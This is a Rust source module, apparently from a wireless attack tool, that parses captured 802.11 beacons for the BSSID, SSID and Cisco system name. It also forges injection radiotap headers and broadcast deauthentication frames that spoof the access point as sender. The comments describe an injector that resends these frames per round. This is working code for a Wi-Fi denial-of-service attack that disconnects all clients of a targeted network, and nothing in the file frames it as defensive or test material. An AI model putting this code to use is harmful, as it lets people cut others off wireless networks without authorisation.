//! Radiotap / 802.11 management frame codec.
//!
//! Pure byte-level parsing and forging with no socket or OS dependencies.
//! Incoming monitor-mode frames carry a radiotap header whose length lives
//! in bytes [2,3] (little-endian); the 802.11 management header follows.
//! Outgoing frames get a fixed 12-byte injection radiotap header plus a
//! forged broadcast deauthentication frame.

use std::fmt::Write as _;

/// Upper bound on a captured or injected frame, radiotap included.
pub const PKT_MAX: usize = 2048;

/// 802.11 management header: frame control (2), duration (2), three
/// addresses (18), sequence control (2).
pub const MGMT_HDR_LEN: usize = 24;

/// Fixed beacon body prefix: timestamp (8), beacon interval (2),
/// capability info (2).
pub const BEACON_FIXED_LEN: usize = 12;

/// addr3 offset inside the management header (the BSSID for beacons).
const BSSID_OFFSET: usize = 16;

/// Sequence-control offset inside the management header.
pub const SEQ_CTRL_OFFSET: usize = 22;

/// Frame control for a type-Management / subtype-Beacon frame, as the
/// little-endian u16 it appears as on the wire.
const FC_BEACON: u16 = 0x0080;

/// Frame control for a type-Management / subtype-Deauthentication frame.
const FC_DEAUTH: u16 = 0x00C0;

/// Deauthentication reason code 7: class 3 frame received from a
/// nonassociated station.
const DEAUTH_REASON: u16 = 0x0007;

/// SSID information element tag.
const IE_SSID: u8 = 0;

/// Vendor-specific information element tag.
const IE_VENDOR: u8 = 221;

/// Cisco OUI carried by Aironet vendor elements.
const CISCO_OUI: [u8; 3] = [0x00, 0x40, 0x96];

/// Cisco vendor-element subtype advertising the AP system name.
const CISCO_SUBTYPE_SYSTEM_NAME: u8 = 0x00;

/// Advertised SSIDs are capped at 32 octets; longer IEs are truncated.
const SSID_MAX: usize = 32;

/// Radiotap header used for injection: length 0x000C, present mask
/// 0x00008004 (rate + TX flags), rate 1 Mbps, TX flags no-ACK | no-seq.
///
/// Known-working artifact carried over from earlier injection tooling;
/// it has not been validated against every mac80211 driver.
const RADIOTAP_INJECT: [u8; 12] = [
    0x00, 0x00, 0x0C, 0x00, 0x04, 0x80, 0x00, 0x00, 0x02, 0x00, 0x18, 0x00,
];

/// Fields extracted from a captured beacon.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParsedBeacon {
    pub bssid: [u8; 6],
    /// Advertised SSID, up to 32 octets, possibly empty or non-UTF8.
    pub ssid: Vec<u8>,
    /// Cisco Aironet system name, when advertised.
    pub location: Vec<u8>,
}

/// Three-way classification of a captured frame.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ParseOutcome {
    Beacon(ParsedBeacon),
    /// Structurally sound, but not a beacon. Skipped by the probe loop.
    NotABeacon,
    /// Too short for its own headers or carrying a truncated element.
    Malformed,
}

/// Classify a raw monitor-mode frame and extract beacon fields.
///
/// The frame control is read as soon as the management header is covered,
/// so short non-beacon management frames (a deauth is 26 octets) classify
/// as `NotABeacon` rather than `Malformed`; only frames claiming to be
/// beacons are held to the full beacon length.
pub fn parse_incoming(bytes: &[u8]) -> ParseOutcome {
    if bytes.len() < 4 {
        return ParseOutcome::Malformed;
    }

    let rtap_len = u16::from_le_bytes([bytes[2], bytes[3]]) as usize;
    if bytes.len() < rtap_len + MGMT_HDR_LEN {
        return ParseOutcome::Malformed;
    }
    let mgmt = &bytes[rtap_len..];

    let frame_control = u16::from_le_bytes([mgmt[0], mgmt[1]]);
    if frame_control != FC_BEACON {
        return ParseOutcome::NotABeacon;
    }

    if mgmt.len() < MGMT_HDR_LEN + BEACON_FIXED_LEN {
        return ParseOutcome::Malformed;
    }

    let mut bssid = [0u8; 6];
    bssid.copy_from_slice(&mgmt[BSSID_OFFSET..BSSID_OFFSET + 6]);

    let mut ssid = Vec::new();
    let mut location = Vec::new();

    // IE walk over the variable beacon body: (tag, len, value) triples.
    let body = &mgmt[MGMT_HDR_LEN + BEACON_FIXED_LEN..];
    let mut pos = 0;
    while pos < body.len() {
        if pos + 2 > body.len() {
            return ParseOutcome::Malformed;
        }
        let tag = body[pos];
        let len = body[pos + 1] as usize;
        if pos + 2 + len > body.len() {
            return ParseOutcome::Malformed;
        }
        let value = &body[pos + 2..pos + 2 + len];

        match tag {
            IE_SSID => {
                ssid = value[..value.len().min(SSID_MAX)].to_vec();
            }
            IE_VENDOR => {
                if len >= 4 && value[..3] == CISCO_OUI && value[3] == CISCO_SUBTYPE_SYSTEM_NAME {
                    location = value[4..].to_vec();
                }
            }
            _ => {}
        }

        pos += 2 + len;
    }

    ParseOutcome::Beacon(ParsedBeacon {
        bssid,
        ssid,
        location,
    })
}

/// Write the injection radiotap header at the start of `buf`.
///
/// Returns the header length.
pub fn forge_radiotap(buf: &mut [u8]) -> usize {
    buf[..RADIOTAP_INJECT.len()].copy_from_slice(&RADIOTAP_INJECT);
    RADIOTAP_INJECT.len()
}

/// Forge a broadcast deauthentication frame for `bssid` at the start of
/// `buf` (normally just past the radiotap header).
///
/// Source and BSSID are both the target, destination is broadcast, reason
/// code is 7. The sequence control is left zeroed; the injector rewrites
/// it per round.
///
/// Returns the frame length.
pub fn forge_broadcast_deauth(bssid: &[u8; 6], buf: &mut [u8]) -> usize {
    let len = MGMT_HDR_LEN + 2;
    buf[..len].fill(0);

    buf[0..2].copy_from_slice(&FC_DEAUTH.to_le_bytes());
    // Duration already zero.
    buf[4..10].fill(0xFF); // addr1: broadcast
    buf[10..16].copy_from_slice(bssid); // addr2: spoofed source
    buf[16..22].copy_from_slice(bssid); // addr3: BSSID
    // Sequence control placeholder already zero.
    buf[24..26].copy_from_slice(&DEAUTH_REASON.to_le_bytes());

    len
}

/// Format a 6-byte MAC address as "aa:bb:cc:dd:ee:ff".
pub fn format_mac(mac: &[u8; 6]) -> String {
    let mut s = String::with_capacity(17);
    for (i, b) in mac.iter().enumerate() {
        if i > 0 {
            s.push(':');
        }
        let _ = write!(s, "{:02x}", b);
    }
    s
}

/// Parse a "xx:xx:xx:xx:xx:xx" MAC address string, case-insensitive.
pub fn parse_mac(s: &str) -> Result<[u8; 6], String> {
    let mut mac = [0u8; 6];
    let mut octets = 0;
    for (i, part) in s.split(':').enumerate() {
        if i >= 6 || part.len() != 2 {
            return Err(format!("invalid MAC address: {s}"));
        }
        mac[i] = u8::from_str_radix(part, 16).map_err(|_| format!("invalid MAC address: {s}"))?;
        octets = i + 1;
    }
    if octets != 6 {
        return Err(format!("invalid MAC address: {s}"));
    }
    Ok(mac)
}
